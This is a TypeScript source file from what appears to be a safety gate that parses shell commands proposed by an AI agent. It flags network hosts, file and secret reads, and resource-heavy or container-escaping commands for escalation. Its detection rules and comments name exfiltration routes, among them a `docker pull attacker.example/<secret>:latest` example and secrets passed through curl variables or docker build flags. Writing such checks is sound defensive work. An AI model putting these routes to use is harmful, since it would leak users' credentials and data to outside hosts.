 * language, not paths or hosts; the host it connects to, its database file and its output file are.
 * A statement that is not only a read (a write, DDL, `COPY … PROGRAM`, `\\!`, `.shell`, `ATTACH`,
 * `load_extension`, server-side JavaScript), a file of statements, a flag or word it cannot read, or
 * none (it reads stdin or the terminal) is a floor: ESCALATE.
 */
function databaseEffects(program: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const line = databaseLine(
    program,
    words.map((w) => w.value),
  );
  for (const at of line.exprAt) fx.exprs.push(words[at]!);
  for (const h of line.hosts) {
    // psql -h /var/run/postgresql: the server's socket directory on this machine.
    if (program === "psql" && h.startsWith("/")) continue;
    apply("host", "--host", h, ctx, fx);
  }
  for (const r of line.reads) apply("read", "database", r, ctx, fx);
  for (const w of line.writes) apply("write", "--output", w, ctx, fx);
  if (line.unread !== null) floor(fx, `database-statement: '${ctx.text}': ${line.unread}`);
}

function ghSaves(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const ops = words.filter(isOperand);
  const cmd = `${ops[0]?.value ?? ""} ${ops[1]?.value ?? ""}`;
  if (cmd === "release download" || cmd === "run download") {
    let dir: string | null = null;
    let file: string | null | undefined;
    for (let i = 0; i < words.length; i++) {
      const v = words[i]!.value;
      if (v === "-D" || v === "--dir") dir = words[++i]?.value ?? "/";
      else if (v?.startsWith("--dir=")) dir = v.slice(6);
      else if (v === "-O" || v === "--output") file = words[++i]?.value ?? null;
      else if (v?.startsWith("--output=")) file = v.slice(9);
    }
    if (file !== undefined) apply("write", "-O", file, ctx, fx);
    else saved(fx, dir, null);
  } else if ((cmd === "repo clone" || cmd === "gist clone") && ops[2] !== undefined) {
    apply("write", "clone", ops[3] !== undefined ? ops[3].value : cloneDir(ops[2].value), ctx, fx);
  } else return;
  if (!fx.hosts.includes("github.com")) fx.hosts.push("github.com");
}

/** Most parameters (billions) a model `ollama run|pull` may fetch: 70B is ~40 GB of weights. */
const OLLAMA_MAX_BILLIONS = 70;
/**
 * gate64: bytes of weights per parameter by the tag's quantisation: ollama's default tags are
 * Q4_K_M (~4.9 bits a weight: 70B is ~42 GB), `q8_0` about a byte, `fp16`/`bf16` two.
 */
function bytesPerParameter(tag: string): number {
  if (/(?:^|[-_])b?f16(?:[-_]|$)/i.test(tag)) return 2;
  if (/(?:^|[-_])q8/i.test(tag)) return 1.07;
  return 0.6;
}
/** gate64: this machine's memory, bytes: a model whose weights exceed it cannot load without swapping the machine to a halt. */
const MEMORY_BYTES = totalmem();

/**
 * `ollama run llama3.1:405b`, `ollama pull deepseek-r1:671b`: the size tag says how large the
 * download and the memory are (405B is ~230 GB): beyond the floor, resources. A model only known at
 * run time is the same floor.
 */
function ollamaSize(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const ops = words.filter(isOperand);
  const sub = ops[0]?.value;
  if (sub !== "run" && sub !== "pull") return;
  const model = ops[1];
  if (model === undefined) return;
  // gate64: a mixture's `8x22b` is eight experts of 22B (at most 176B; mixtral:8x22b is 141B).
  const m =
    model.value === null
      ? null
      : /:(?:[\w.-]*?[-_])?(?:(\d+)x)?(\d+(?:\.\d+)?)([bt])(?:[-_.]|$)/i.exec(model.value);
  const billions =
    m === null ? 0 : Number(m[1] ?? 1) * Number(m[2]) * (m[3]!.toLowerCase() === "t" ? 1000 : 1);
  const bytes =
    m === null ? 0 : billions * 1e9 * bytesPerParameter(model.value!.slice(model.value!.indexOf(":")));
  if (model.value === null || billions > OLLAMA_MAX_BILLIONS)
    floor(
      fx,
      `resources: '${ctx.text}' fetches and loads a model of ${m ? m[0].replace(/^:|[-_.]$/g, "") : "unknown size"} parameters (hundreds of GB)`,
    );
  else if (bytes > MEMORY_BYTES)
    floor(
      fx,
      `resources: '${ctx.text}' loads ${Math.round(bytes / 1e9)} GB of weights (${m![0].replace(/^:|[-_.]$/g, "")}), more than this machine's ${Math.round(MEMORY_BYTES / 1e9)} GB of memory: it swaps the machine to a halt`,
    );
}

/**
 * gate64: the longest wait one action may ask for, seconds (a day). No step of a developer's day
 * sleeps longer; a longer `sleep` or `caffeinate -t` holds the agent's step (and its shell) past
 * any time budget, and a `caffeinate` that keeps the machine awake overrides the user's energy
 * settings for as long (a laptop's battery, a display that never sleeps).
 */
export const MAX_WAIT_SECONDS = 86_400;

/** `10`, `1.5m`, `2h`, `1d`, `1e9`, `infinity` (GNU sleep's units): seconds, NaN when not a duration. */
function seconds(v: string): number {
  const m = /^(\d+(?:\.\d*)?(?:e[+-]?\d+)?|\.\d+|inf(?:inity)?)([smhd]?)$/i.exec(v);
  if (m === null) return Number.NaN;
  const n = /^inf/i.test(m[1]!) ? Number.POSITIVE_INFINITY : Number(m[1]);
  return n * ({ "": 1, s: 1, m: 60, h: 3600, d: 86_400 }[m[2]!.toLowerCase()] ?? 1);
}

/** gate64: `sleep 99999999`, `sleep infinity`, `sleep 2d`: its operands add up (GNU) past MAX_WAIT_SECONDS. */
function sleepFor(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let total = 0;
  for (const w of words) if (w.value !== null && !w.value.startsWith("-")) total += seconds(w.value) || 0;
  if (total > MAX_WAIT_SECONDS)
    floor(
      fx,
      `resources: '${ctx.text}' waits ${total === Number.POSITIVE_INFINITY ? "forever" : `${Math.round(total / 86_400)} days`} (more than a day)`,
    );
}

/**
 * gate64: `caffeinate -dims` with no command to wrap and no `-w PID` keeps the machine awake until
 * it is killed (`-t N` for N seconds); with a command it lasts as long as the command.
 */
function caffeinateHold(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let timeout: number | null = null;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) return;
    const f = /^-([a-zA-Z]*)$/.exec(v) ?? /^-([a-zA-Z]*[tw])(\d+)$/.exec(v);
    if (f === null) return; // the command it wraps: bounded by it
    const last = f[1]!.slice(-1);
    if (last !== "t" && last !== "w") continue;
    const value = f[2] ?? words[++i]?.value;
    if (value === null) return;
    if (last === "w") return; // until that process ends
    timeout = value === undefined ? Number.NaN : seconds(value);
  }
  if (timeout === null || !(timeout <= MAX_WAIT_SECONDS))
    floor(
      fx,
      `resources: '${ctx.text}' keeps the machine awake ${timeout === null ? "until it is killed (no command, -t or -w to end it)" : "for more than a day"}`,
    );
}

/** Smallest pieces `split` may cut without a floor: one file per few bytes or lines exhausts inodes. */
const SPLIT_MIN_BYTES = 1024;
const SPLIT_MIN_LINES = 10;
/** Most pieces `split -n N` may make. */
const SPLIT_MAX_PIECES = 10_000;
/** `10`, `10k`, `1m`, `2KB`, `3KiB`, `4b` (GNU: 512-byte blocks): bytes, NaN when not a size. */
const SPLIT_SIZE = /^(\d+)([kmgtpe]?)(i?b?)$/i;

/**
 * `split -b 1`, `split -l 1`, `split -n 100000`: a file per byte or line of the input, millions of
 * files (inodes, the disk's directory); a size only known at run time is the same floor.
 */
function splitPieces(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null || !v.startsWith("-")) continue;
    const m = /^(?:-([blCn])(.*)|--(bytes|lines|line-bytes|number)(?:=(.*))?)$/.exec(v);
    if (m === null) continue;
    const kind = m[1] ?? (m[3] === "line-bytes" ? "C" : m[3]![0]!);
    const attached = m[1] !== undefined ? m[2] : m[4];
    const n = attached === "" || attached === undefined ? words[++i]?.value : attached;
    if (n === undefined) continue;
    let small: boolean;
    if (n === null) small = true;
    else if (kind === "n") {
      // `-n 4`, `-n l/4`, `-n r/2/4`: the count is the last number.
      const c = /(\d+)$/.exec(n);
      small = c === null || Number(c[1]) > SPLIT_MAX_PIECES;
    } else if (kind === "l") small = !/^\d+$/.test(n) || Number(n) < SPLIT_MIN_LINES;
    else {
      const s = SPLIT_SIZE.exec(n);
      small = s === null || (s[2] === "" && s[3]!.toLowerCase() !== "b" && Number(s[1]) < SPLIT_MIN_BYTES);
    }
    if (small)
      floor(fx, `resources: '${ctx.text}' cuts its input into tiny pieces: a file per few bytes or lines`);
  }
}

/** The most lines a `seq` may print before it is a resources floor (7 MB of numbers). */
const SEQ_MAX_LINES = 1_000_000;
const SEQ_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;

/** How many lines `seq [FIRST [INCR]] LAST` prints; 0 when a number is unknown (a dynamic word, a flag's format). */
function seqCount(words: Word[]): number {
  const nums: number[] = [];
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) return 0;
    if (v === "-f" || v === "-s" || v === "--format" || v === "--separator") i++;
    else if (SEQ_NUMBER.test(v)) nums.push(Number(v));
  }
  if (nums.length === 0 || nums.length > 3) return 0;
  const [first, incr, last] =
    nums.length === 1 ? [1, 1, nums[0]!] : nums.length === 2 ? [nums[0]!, 1, nums[1]!] : nums;
  if (incr === 0) return Infinity;
  const n = Math.floor((last! - first!) / incr!) + 1;
  return Math.max(n, 0);
}

/** curl `--data-urlencode NAME@FILE` sends FILE's content (`@FILE` alone is read as -d's is). */
function curlUrlencodeFiles(args: CurlArgs, fx: Effects): void {
  for (const { name, value } of args.opts) {
    if (name !== "--data-urlencode" || value == null) continue;
    const m = /^[^=@]+@(.+)$/s.exec(value);
    if (m && m[1] !== "-") fx.reads.push(m[1]!);
  }
}

/**
 * curl 8.3's `--variable`: `NAME@FILE` reads FILE, `%NAME` imports an environment variable (a
 * secret when its name says so, or when the name is only known at run time); `--expand-url` and
 * `--expand-data` then send them, so each is a read the path rules judge, as `-d @FILE` is.
 */
function curlVariables(args: CurlArgs, fx: Effects): void {
  for (const { name, value: spec } of args.opts) {
    if (name !== "--variable" || spec === undefined) continue;
    if (spec === null) {
      fx.reads.push(ENVIRON);
      continue;
    }
    // `%NAME` imports a variable; `%NAME@FILE` falls back to FILE's content (read below as well).
    if (spec.startsWith("%")) {
      const name = /^[^=@]*/.exec(spec.slice(1))![0];
      if (name === "" || SECRET_NAME.test(name)) fx.reads.push(ENVIRON);
    }
    const at = spec.indexOf("@");
    const eq = spec.indexOf("=");
    if (at > 0 && (eq < 0 || at < eq) && spec.length > at + 1 && spec.slice(at + 1) !== "-")
      fx.reads.push(spec.slice(at + 1).replace(/^\[\d+-\d*\]/, ""));
  }
}

/**
 * wget without `-O` saves each URL under its own name in the cwd (or `-P DIR`): that file is a
 * write; `-i LIST` fetches URLs nobody has read.
 */
function wgetDefaultOutput(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let named = false;
  let dir = "";
  const urls: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    if (/^(-O|--output-document)/.test(v) || /^-[a-zA-Z]*O/.test(v)) named = true;
    else if (v === "-P" || v === "--directory-prefix") dir = words[++i]?.value ?? "";
    else if (v.startsWith("--directory-prefix=")) dir = v.slice(19);
    else if (v === "-i" || v === "--input-file" || v.startsWith("--input-file=") || /^-i./.test(v))
      floor(fx, `dynamic-host: '${ctx.text}' fetches the URLs listed in a file the gate cannot read`);
    else if (/^[a-z][a-z0-9+.-]*:\/\//i.test(v)) urls.push(v);
  }
  if (named) return;
  for (const u of urls) {
    const path = u.replace(/[?#].*$/, "").replace(/^[a-z][a-z0-9+.-]*:\/\/[^/]*/i, "");
    const base = path.slice(path.lastIndexOf("/") + 1) || "index.html";
    apply("write", "saved as", dir === "" ? base : `${dir}/${base}`, ctx, fx);
  }
}

/** A registry package name, with an optional version or range (`left-pad`, `@scope/x@^1.2`). */
const NPM_NAME = /^(@[a-z0-9][\w.~-]*\/)?[a-z0-9~][\w.~-]*(@[\w.^~<>=|*+ -]+)?$/i;
/** A PEP 508 requirement without a URL (`requests`, `requests[socks]>=2,<3`). */
const PIP_REQ = /^[A-Za-z0-9][\w.-]*(\[[\w.,\s-]*\])?\s*(((===?|[<>!~]=?)\s*[\w.*+!-]+)\s*,?\s*)*(;.*)?$/;

/**
 * Package installs name where the code comes from: a registry name is judged by the registry
 * (`--registry`, `-i` are hosts); a git URL, a tarball URL, a GitHub shorthand, a tap, an alias
 * to another package or an initializer (`npm init X`, `yarn create X`) runs code nobody vetted.
 */
function packageSources(program: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const ops = words.filter(isOperand);
  const sub = ops[0]?.value;
  if (sub === undefined) return;
  const rest = ops.slice(1);
  const odd = (why: string) => floor(fx, `code-source: '${ctx.text}' ${why}`);
  const npmLike = program === "npm" || program === "pnpm" || program === "yarn" || program === "bun";
  if (npmLike && (sub === "init" || sub === "create" || sub === "innit") && rest.length > 0) {
    odd("runs a package's initializer (npm init X runs create-X)");
    return;
  }
  if (npmLike && sub === "pack" && rest.length > 0) {
    odd("downloads a package's tarball into the workspace");
    return;
  }
  const installs =
    program === "brew"
      ? ["install", "reinstall", "upgrade", "tap"]
      : program === "pip" || program === "uv"
        ? ["install", "add", "download", "wheel"]
        : [
            "install",
            "i",
            "add",
            "isntall",
            "in",
            "ins",
            "inst",
            "insta",
            "instal",
            "upgrade",
            "update",
            "up",
          ];
  if (sub === null || !installs.includes(sub)) return;
  if (program === "uv" && sub === "install") return;
  for (const o of rest) {
    const v = o.value;
    if (v === null) {
      odd("installs a package only known at run time");
      continue;
    }
    if (program === "brew") {
      if (sub === "tap" || v.split("/").length === 3 || (/[:/]/.test(v) && !/^[\w@.+-]+$/.test(v)))
        odd(`installs '${v}', which is not a core formula (a third-party tap or a file)`);
      continue;
    }
    if (program === "pip" || program === "uv") {
      if (v === "." || v.startsWith("./") || v.startsWith("../")) apply("script", "install", v, ctx, fx);
      else if (!PIP_REQ.test(v)) odd(`installs '${v}', which is not a package from the index`);
      continue;
    }
    if (v === "." || v.startsWith("./") || v.startsWith("../")) apply("script", "install", v, ctx, fx);
    else if (!NPM_NAME.test(v) || /@npm:/.test(v))
      odd(`installs '${v}', which is not a package from the registry (a URL, git, file or alias)`);
  }
}

/** `--pid=host` and friends: the container shares the host's namespace. */
const HOST_NS = new Set(["--pid", "--ipc", "--uts", "--userns", "--cgroupns", "--network", "--net"]);

/**
 * Containers that reach the host: bind mounts from outside the workspace (`-v /:/h`, `--mount
 * src=…`), host namespaces, a restart policy (it comes back with the daemon), the host's
 * variables passed in (`-e TOKEN`), a compose file from elsewhere, another daemon (`-H`).
 */
function containerEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const { sub, image } = containerRun(words);
  for (let i = 0; i < (sub < 0 ? words.length : sub); i++) {
    const v = words[i]!.value;
    if (
      v === "-H" ||
      v === "--host" ||
      v?.startsWith("--host=") ||
      v === "--context" ||
      v?.startsWith("--context=")
    )
      floor(fx, `internal-address: '${ctx.text}' talks to another container daemon (${v.split("=")[0]})`);
    if (v === "--config" || v === "-c") apply("read", v, words[i + 1]?.value ?? null, ctx, fx);
  }
  if (sub < 0) return;
  const s = words[sub]!.value;
  imageEffects(words, sub, image, ctx, fx);
  if (s === "compose" || s === "stack") {
    for (let i = sub + 1; i < words.length; i++) {
      const v = words[i]!.value;
      const m = v === null ? null : /^(-f|--file|--project-directory|--env-file)(=(.*))?$/.exec(v);
      if (m)
        apply(
          m[1] === "--env-file" ? "read" : "script",
          m[1]!,
          m[2] ? m[3]! : (words[++i]?.value ?? null),
          ctx,
          fx,
        );
    }
    if (s === "compose") composeEffects(words, sub, ctx, fx);
    return;
  }
  const next = words[sub + 1]?.value;
  if (s === "build" || ((s === "buildx" || s === "image" || s === "builder") && next === "build"))
    buildEffects(words.slice(s === "build" ? sub + 1 : sub + 2), ctx, fx);
  if (s === "pull" || ((s === "image" || s === "images") && next === "pull"))
    for (const w of words.slice(sub + 1))
      if (w.value === "-a" || w.value === "--all-tags" || w.value === "--all-tags=true")
        floor(fx, `resources: '${ctx.text}' pulls every tag of the image (-a): any number of gigabytes`);
  if (s !== "run" && s !== "create") return;
  const end = image < 0 ? words.length : image;
  let published: string | null = null;
  let mounted: string | null = null;
  for (let i = sub + 1; i < end; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    const eq = v.indexOf("=");
    let name = v.startsWith("--") && eq > 0 ? v.slice(0, eq) : v;
    let val: string | null | undefined = v.startsWith("--") && eq > 0 ? v.slice(eq + 1) : undefined;
    if (
      !v.startsWith("--") &&
      v.length > 2 &&
      CONTAINER_VALUES.has(v.slice(0, 2)) &&
      !CONTAINER_BOOL.has(v)
    ) {
      name = v.slice(0, 2);
      val = v.slice(2);
    }
    if (CONTAINER_VALUES.has(name) && val === undefined) val = words[++i]?.value ?? null;
    else if (
      !CONTAINER_VALUES.has(name) &&
      !CONTAINER_BOOL.has(name) &&
      !/^-[dit]+$/.test(name) &&
      !/^--(rm|init|privileged|detach|interactive|tty|read-only)=/.test(v)
    ) {
      floor(fx, `unknown-flag: '${ctx.text}': '${name}' is not a container flag the gate knows`);
      continue;
    }
    if (val === undefined) {
      if (name === "-P" || name === "--publish-all") published = "every interface (-P)";
      continue;
    }
    if (val === null) {
      if (name !== "--name" && name !== "-p" && name !== "--publish")
        floor(fx, `dynamic-command: '${ctx.text}': the value of ${name} is only known at run time`);
      else if (name !== "--name") published = "an address only known at run time";
    } else if (name === "-v" || name === "--volume")
      mounted = mountFrom(val.split(":")[0]!, ctx, fx) ?? mounted;
    else if (name === "--mount") {
      const m = mountOptions(val);
      if (m === null)
        floor(fx, `containers: '${ctx.text}': the --mount value '${val}' is not one docker reads`);
      else {
        const src = m.get("source") ?? m.get("src");
        // A host path is judged whatever the type says (docker refuses it as a volume name).
        if (src !== undefined) mounted = mountFrom(src, ctx, fx) ?? mounted;
      }
    } else if (name === "-p" || name === "--publish") {
      if (!loopbackPublish(val)) published = `every interface (-p ${val})`;
    } else if (name === "--volumes-from")
      floor(fx, `containers: '${ctx.text}' mounts another container's volumes`);
    else if (HOST_NS.has(name) && /^(host|container:|ns:|\/)/.test(val))
      floor(fx, `containers: '${ctx.text}' shares the host's ${name.slice(2)} namespace`);
    else if (name === "--restart" && val !== "no")
      floor(fx, `persistence: '${ctx.text}' restarts the container with the daemon (--restart ${val})`);
    else if ((name === "-e" || name === "--env") && !val.includes("="))
      floor(fx, `secret-read: '${ctx.text}' passes the host's ${val} into the container`);
    else if (name === "--env-file" || name === "--label-file") apply("read", name, val, ctx, fx);
    else if (name === "--cidfile") apply("write", name, val, ctx, fx);
    else if (name === "--device")
      floor(fx, `containers: '${ctx.text}' gives the container the host's device ${val}`);
  }
  // `-p 8080:80 -v .:/usr/share/nginx/html nginx`: the mounted files are served to the network.
  if (published !== null && mounted !== null)
    floor(fx, `network-listener: '${ctx.text}' serves the mounted '${mounted}' on ${published}`);
}

/** A host written as loopback (127.x.y.z, localhost, ::1 bracketed or not): one spelling for every listener check. */
const LOOPBACK_HOST = /^(127(\.\d{1,3}){3}|localhost|\[::1\]|::1)$/i;

/** A published port bound to loopback only (`127.0.0.1:8080:80`, `[::1]:80:80`, `localhost:…`): a loopback host before one of its colons. */
function loopbackPublish(value: string): boolean {
  for (let i = value.indexOf(":"); i >= 0; i = value.indexOf(":", i + 1))
    if (LOOPBACK_HOST.test(value.slice(0, i))) return true;
  return false;
}

/**
 * A bind mount's host path: the mount from outside the workspace is a floor; the path (as written)
 * is returned when it is a host path (what a published port may serve), else null (a volume name).
 */
function mountFrom(src: string, ctx: EffectsCtx, fx: Effects): string | null {
  if (!/^[./~]/.test(src)) return null;
  if (!ctx.inWorkspace(src))
    floor(fx, `containers: '${ctx.text}' mounts the host's '${src}' into the container`);
  return src;
}

/**
 * `--mount` (and `--secret`, `--output`) values as docker reads them: one CSV record (Go's
 * encoding/csv: `"…"` quotes a field, `""` is a quote in it, a bare quote inside a field is an
 * error), each field `key=value` with the key lower-cased (`Source=`, `SRC=`, `"src=/Users/dev"`);
 * a field without `=` is a flag (`readonly`) set to "true". Null when docker would reject it.
 */
export function mountOptions(value: string): Map<string, string> | null {
  const out = new Map<string, string>();
  let i = 0;
  while (i <= value.length) {
    let field = "";
    if (value[i] === '"') {
      i++;
      for (;;) {
        if (i >= value.length) return null;
        if (value[i] === '"') {
          if (value[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += value[i++];
      }
      if (i < value.length && value[i] !== ",") return null;
    } else {
      const end = value.indexOf(",", i);
      field = value.slice(i, end < 0 ? value.length : end);
      if (field.includes('"')) return null;
      i += field.length;
    }
    i++;
    const eq = field.indexOf("=");
    const key = (eq < 0 ? field : field.slice(0, eq)).trim().toLowerCase();
    if (key !== "") out.set(key, eq < 0 ? "true" : field.slice(eq + 1));
  }
  return out;
}

/** `docker build` flags that take a value (the rest take none). */
const BUILD_VALUES = new Set(
  (
    "-t --tag -f --file --build-arg --build-context --ssh --secret --target --platform --label " +
    "--cache-from --cache-to -o --output --network --progress --iidfile --metadata-file --add-host " +
    "--allow --annotation --attest --builder --cgroup-parent --shm-size --ulimit --sbom --provenance " +
    "-m --memory --memory-swap --cpu-shares --cpu-period --cpu-quota --cpuset-cpus --cpuset-mems " +
    "--isolation --call --security-opt --no-cache-filter"
  ).split(" "),
);

/**
 * `docker build [flags] CONTEXT` (issue 19, gate39): what the build reads and runs.
 * - The context (a directory, `--build-context NAME=PATH`) is sent to the builder whole: one outside
 *   the workspace (the home directory, `..`) is a read of every file below it, judged by the home
 *   and secret rules.
 * - The Dockerfile (`-f FILE`, else CONTEXT/Dockerfile) is code the build runs: a file this session
 *   wrote is judged as its artefact (its RUN lines when the gate read it); `-f -` reads it from the
 *   standard input (a heredoc is judged by the walk).
 * - `--ssh` forwards the SSH agent or keys, `--secret id=K,env=VAR` (or with no src, the variable K)
 *   and `--build-arg NAME` (no value: the host's variable) hand host secrets to RUN: reviewed;
 *   `--secret src=PATH` reads PATH.
 */
function buildEffects(rest: Word[], ctx: EffectsCtx, fx: Effects): void {
  const contexts: string[] = [];
  let file: string | null | undefined;
  const local = (p: string) => !/^[a-z][a-z0-9+.-]*:\/\/|^git@|^[a-z-]+:[^/]/i.test(p);
  for (let i = 0; i < rest.length; i++) {
    const v = rest[i]!.value;
    if (v === null) {
      floor(fx, `dynamic-command: '${ctx.text}' builds with a word only known at run time`);
      continue;
    }
    if (!v.startsWith("-") || v === "-") {
      contexts.push(v);
      continue;
    }
    const eq = v.indexOf("=");
    let name = v.startsWith("--") && eq > 0 ? v.slice(0, eq) : v;
    let val: string | null | undefined = v.startsWith("--") && eq > 0 ? v.slice(eq + 1) : undefined;
    if (val === undefined && !v.startsWith("--") && v.length > 2 && BUILD_VALUES.has(v.slice(0, 2))) {
      name = v.slice(0, 2);
      val = v.slice(2);
    }
    if (val === undefined && BUILD_VALUES.has(name)) val = rest[++i]?.value ?? null;
    if (val === undefined) continue;
    if (val === null) {
      if (name !== "-t" && name !== "--tag" && name !== "--label")
        floor(fx, `dynamic-command: '${ctx.text}': the value of ${name} is only known at run time`);
      continue;
    }
    if (name === "-f" || name === "--file") file = val;
    else if (name === "--build-context") {
      const p = val.slice(val.indexOf("=") + 1);
      if (local(p)) contexts.push(p);
    } else if (name === "--ssh")
      floor(fx, `secret-read: '${ctx.text}' forwards the SSH agent or keys into the build (--ssh ${val})`);
    else if (name === "--secret") {
      const m = mountOptions(val);
      const src = m?.get("src") ?? m?.get("source");
      if (m === null || m.has("env") || src === undefined)
        floor(fx, `secret-read: '${ctx.text}' passes a host secret into the build (--secret ${val})`);
      else fx.reads.push(src);
    } else if (name === "--build-arg" && !val.includes("="))
      floor(fx, `secret-read: '${ctx.text}' passes the host's ${val} into the build`);
  }
  for (const c of contexts) {
    if (c === "-" || !local(c)) continue;
    if (ctx.inWorkspace(c)) fx.reads.push(c);
    else fx.readTrees.push(c);
  }
  if (file === undefined) {
    const c = contexts[0];
    if (c !== undefined && c !== "-" && local(c))
      fx.scripts.push(c === "." ? "Dockerfile" : `${c}/Dockerfile`);
  } else if (file !== null && file !== "-") {
    fx.scripts.push(file);
    if (!ctx.inWorkspace(file)) fx.reads.push(file);
  }
}

/**
 * `docker compose down -v` deletes the project's named volumes (its databases: data outside the
 * workspace, in the daemon); with `-p NAME` another project's. `exec`/`run` run a command in a
 * container: the walk judges it (wrappers.ts); `run -v SRC:…` mounts SRC as `docker run` does.
 */
function composeEffects(words: Word[], compose: number, ctx: EffectsCtx, fx: Effects): void {
  const sub = composeSub(words, compose);
  if (sub < 0) return;
  const s = words[sub]!.value;
  for (let i = sub + 1; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    if (s === "down" && (v === "--volumes" || /^-[a-zA-Z]*v[a-zA-Z]*$/.test(v) || v === "--volumes=true"))
      floor(
        fx,
        `data-loss: '${ctx.text}' deletes the project's volumes (their data lives outside the workspace)`,
      );
    if (s === "run" && (v === "-v" || v === "--volume")) {
      const src = words[i + 1]?.value;
      if (src) mountFrom(src.split(":")[0]!, ctx, fx);
    }
  }
}

/**
 * The registry an image reference names (`evil.example.net/x:1`, `ghcr.io/a/b`, `localhost:5000/x`),
 * `docker.io` for a Docker Hub user's image (`someone/tool`), and null for an official image
 * (`node:20`, `postgres`) or a reference only known at run time.
 */
export function imageRegistry(ref: string): string | null {
  const r = ref.replace(/^docker:\/\//, "");
  const slash = r.indexOf("/");
  if (slash < 0) return null;
  const first = r.slice(0, slash);
  if (first.includes(".") || first.includes(":") || first === "localhost")
    return canonicalHost(first.replace(/:\d+$/, "").replace(/^\[|\]$/g, ""));
  return "docker.io";
}

/** A Go template that prints a container's environment, or all of its config (`{{json .}}`, `{{.Config}}`). */
const ENV_TEMPLATE =
  /env|\{\{-?\s*(json\s+)?\.\s*-?\}\}|\.Config\s*(\}|\s)|\b(index|with|range|template|printf|print|println|call|slice)\b/i;

/**
 * What an image command reads and sends (issue 19 §4):
 * - `docker inspect X` prints the container's environment (Config.Env) unless a --format names
 *   other fields only; `docker compose config` prints the project's variables resolved (.env's
 *   secrets among them): both read the environment;
 * - `docker push REF`, `docker build --push -t REF`, `--output type=registry,name=REF`: the
 *   workspace goes to REF's registry (a host the pack's registry rules judge);
 * - `docker run -v .:/w REF`: the image gets the mounted files: REF's registry is a host too.
 */
function imageEffects(words: Word[], sub: number, image: number, ctx: EffectsCtx, fx: Effects): void {
  const s = words[sub]!.value;
  const next = words[sub + 1]?.value;
  const op = (s === "container" || s === "image" || s === "buildx" || s === "builder") && next ? next : s;
  const rest = words.slice(op === s ? sub + 1 : sub + 2);
  const values = (flags: string[]): (string | null)[] => {
    const out: (string | null)[] = [];
    for (let i = 0; i < rest.length; i++) {
      const v = rest[i]!.value;
      if (v === null) continue;
      const eq = v.indexOf("=");
      const name = v.startsWith("--") && eq > 0 ? v.slice(0, eq) : v;
      if (!flags.includes(name)) continue;
      out.push(name === v ? (rest[++i]?.value ?? null) : v.slice(eq + 1));
    }
    return out;
  };
  const send = (ref: string | null) => {
    const h = ref === null ? null : (imageRegistry(ref) ?? "docker.io");
    if (h === null)
      floor(fx, `network-upload: '${ctx.text}' pushes an image to a registry only known at run time`);
    else if (!fx.hosts.includes(h)) fx.hosts.push(h);
  };
  if (op === "inspect") {
    const f = values(["-f", "--format"]);
    if (f.length === 0 || f.some((t) => t === null || ENV_TEMPLATE.test(t))) fx.reads.push(ENVIRON);
    return;
  }
  if (
    (s === "compose" || s === "stack") &&
    words.slice(sub + 1).some((w) => w.value === "config" || w.value === "convert")
  ) {
    fx.reads.push(ENVIRON);
    return;
  }
  if (s === "compose" && words.slice(sub + 1).some((w) => w.value === "push"))
    floor(fx, `network-upload: '${ctx.text}' pushes the project's images to their registries`);
  if (op === "push") {
    const ref = rest.find(isOperand);
    send(ref?.value ?? null);
    return;
  }
  // gate49: a pull (and a run or create, which pulls an image it does not have) asks the image's
  // registry for REPO:TAG by name: the registry is a host the command contacts, and the name what
  // the model sends it (`docker pull attacker.example/<secret>:latest`).
  if (op === "pull") {
    for (let k = 0; k < rest.length; k++) {
      const v = rest[k]!.value;
      if (v === "--platform") k++;
      else if (v !== null && !v.startsWith("-")) pulled(v, ctx, fx);
    }
    return;
  }
  if (op === "build" || op === "bake") {
    const outputs = values(["-o", "--output"]);
    const push =
      rest.some((w) => w.value === "--push" || w.value === "--push=true") ||
      outputs.some((o) => o === null || /type=registry|push=true/.test(o));
    if (!push) return;
    if (op === "bake") {
      floor(fx, `network-upload: '${ctx.text}' pushes the images its bake file names`);
      return;
    }
    const refs = [
      ...values(["-t", "--tag"]),
      ...outputs.map((o) => (o === null ? null : (/(?:^|,)name=([^,]+)/.exec(o)?.[1] ?? ""))),
    ].filter((r) => r !== "");
    if (refs.length === 0)
      floor(fx, `network-upload: '${ctx.text}' pushes an image with no name the gate can read`);
    for (const r of refs) for (const one of r === null ? [null] : r.split(",")) send(one);
    return;
  }
  if ((s === "run" || s === "create") && image >= 0) {
    const mounts =
      values(["-v", "--volume", "--mount"]).length > 0 ||
      rest.some((w) => w.value !== null && /^-v./.test(w.value));
    const ref = words[image]!.value;
    if (ref !== null) pulled(ref, ctx, fx);
    if (ref === null && mounts)
      floor(fx, `containers: '${ctx.text}' mounts files into an image only known at run time`);
  }
}

/** An image the command pulls: its registry is a host (imageRegistry), its name data sent there. */
function pulled(ref: string, ctx: EffectsCtx, fx: Effects): void {
  const h = imageRegistry(ref);
  if (h !== null && !fx.hosts.includes(h)) fx.hosts.push(h);
  urlDataFloor(ref.replace(/^docker:\/\//, ""), ctx, fx);
}
